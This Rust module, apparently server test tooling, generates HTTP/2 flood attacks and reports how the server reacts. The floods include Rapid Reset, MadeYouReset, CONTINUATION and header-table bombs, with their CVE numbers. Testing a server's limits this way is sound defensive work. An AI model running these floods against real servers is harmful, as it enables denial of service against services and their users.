//! Floods of HTTP/2: what a server must bound, each for as long as it bears it.

use std::cell::Cell;
use std::io;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt as _};
use tokio::sync::Notify;

use crate::frames::{Code, Frames, PREFACE, field, flag, frame, kind, reset, setting, settings, string, window_update};

/// Ways to make a server work for nothing.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// PING, each of which asks for an answer.
    Ping,
    /// SETTINGS, each of which asks for an answer.
    Settings,
    /// PRIORITY.
    Priority,
    /// `WINDOW_UPDATE` of one octet.
    WindowUpdate,
    /// Frames of a type that nobody knows.
    Unknown,
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Requests that are taken back once they were begun.
    LateReset,
    /// Requests followed by a fault, so that the server takes them back (CVE-2025-8671).
    MadeYouReset,
    /// A head without an end (CVE-2024-27316).
    Continuation,
    /// Heads that name one large entry of the table again and again.
    HeadBomb,
    /// DATA with nothing in it.
    EmptyData,
    /// DATA with one octet.
    SmallData,
    /// DATA with one octet and much padding, beyond the window if it is not opened.
    PaddedData,
}

impl Flood {
    /// Every one.
    pub const ALL: [Self; 13] = [
        Self::Ping,
        Self::Settings,
        Self::Priority,
        Self::WindowUpdate,
        Self::Unknown,
        Self::RapidReset,
        Self::LateReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::HeadBomb,
        Self::EmptyData,
        Self::SmallData,
        Self::PaddedData,
    ];

    /// What goes before all rounds. `request` is the header block of a request that may have a body.
    fn beginning(self, request: &[u8]) -> Vec<u8> {
        match self {
            Self::Continuation => frame(kind::HEADERS, flag::END_STREAM, 1, request),
            Self::EmptyData | Self::SmallData | Self::PaddedData => frame(kind::HEADERS, flag::END_HEADERS, 1, request),
            _ => Vec::new(),
        }
    }

    /// One round of it, and how many frames it has.
    fn round(self, number: u32, request: &[u8]) -> (Vec<u8>, u64) {
        const AT_ONCE: u32 = 10;
        let streams = (0..AT_ONCE).map(|index| (number * AT_ONCE + index) * 2 + 1);
        let head = |flags, stream| frame(kind::HEADERS, flags, stream, request);
        let many = |octets: Vec<u8>| (octets.repeat(100), 100);
        match self {
            Self::Ping => many(frame(kind::PING, 0, 0, [7; 8])),
            Self::Settings => many(settings(&[(setting::INITIAL_WINDOW_SIZE, 65_535)])),
            Self::Priority => many(frame(kind::PRIORITY, 0, 1, [0, 0, 0, 0, 16])),
            Self::WindowUpdate => many(window_update(0, 1)),
            Self::Unknown => many(frame(0xfa, 0, 0, "x")),
            Self::RapidReset => (streams.flat_map(|id| [head(flag::WHOLE, id), reset(id)].concat()).collect(), 20),
            // The other half is in `second_half`.
            Self::LateReset => (streams.flat_map(|id| head(flag::WHOLE, id)).collect(), 10),
            Self::MadeYouReset => {
                let fault = |id| window_update(id, 0x7fff_ffff);
                (streams.flat_map(|id| [head(flag::END_HEADERS, id), fault(id)].concat()).collect(), 20)
            }
            Self::Continuation => many(frame(kind::CONTINUATION, 0, 1, field("x", "y"))),
            Self::HeadBomb => {
                let entry = [&[0x40][..], &string(b"x-bomb"), &string(&[b'a'; 4000])].concat();
                let block = [request, &entry, &[0xbe; 12_000]].concat();
                (frame(kind::HEADERS, flag::WHOLE, number * 2 + 1, block), 1)
            }
            Self::EmptyData => many(frame(kind::DATA, 0, 1, [])),
            Self::SmallData => many(frame(kind::DATA, 0, 1, "x")),
            Self::PaddedData => many(frame(kind::DATA, flag::PADDED, 1, [&[255, b'x'][..], &[0; 255]].concat())),
        }
    }

    fn second_half(self, number: u32) -> Vec<u8> {
        if self != Self::LateReset {
            return Vec::new();
        }
        (0..10).flat_map(|index| reset((number * 10 + index) * 2 + 1)).collect()
    }
}

/// What came of a flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Flooded {
    /// Frames that were sent until then.
    pub sent: u64,
    /// The last GOAWAY's code, if there was one.
    pub goodbye: Option<Code>,
    /// Whether the connection was ended by the server.
    pub ended: bool,
}

/// Floods a fresh connection until the server ends it or the time is over. `request` is the header block of a
/// request that may have a body ([`block`]).
pub async fn flood<S>(flood: Flood, stream: S, request: &[u8], duration: Duration) -> Flooded
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let (reader, mut writer) = tokio::io::split(stream);
    let mut frames = Frames::over(tokio::io::join(reader, tokio::io::sink()));
    let (sent, goodbye) = (Cell::new(0), Cell::new(None));
    let answered = Notify::new();
    let listening = async {
        while let Some(frame) = frames.next().await {
            match frame.kind {
                kind::GOAWAY => goodbye.set(Some(Code::read(&frame.payload[4..8]))),
                kind::PING if frame.flags & flag::ACK != 0 => answered.notify_one(),
                _ => {}
            }
        }
    };
    let sending = async {
        writer.write_all(&[PREFACE, &settings(&[]), &flood.beginning(request)].concat()).await?;
        for number in 0.. {
            let (octets, count) = flood.round(number, request);
            writer.write_all(&octets).await?;
            let rest = flood.second_half(number);
            if !rest.is_empty() {
                // What was sent before the PING has been looked at when it is answered.
                writer.write_all(&frame(kind::PING, 0, 0, [7; 8])).await?;
                writer.flush().await?;
                answered.notified().await;
                writer.write_all(&rest).await?;
            }
            writer.flush().await?;
            sent.set(sent.get() + count);
        }
        io::Result::Ok(())
    };
    let sending = async {
        // An error is the server's end of it, which is still to be heard of.
        if sending.await.is_err() {
            std::future::pending::<()>().await;
        }
    };
    let ended = tokio::select! {
        () = listening => true,
        () = sending => false,
        () = tokio::time::sleep(duration) => false,
    };
    Flooded { sent: sent.get(), goodbye: goodbye.get(), ended }
}
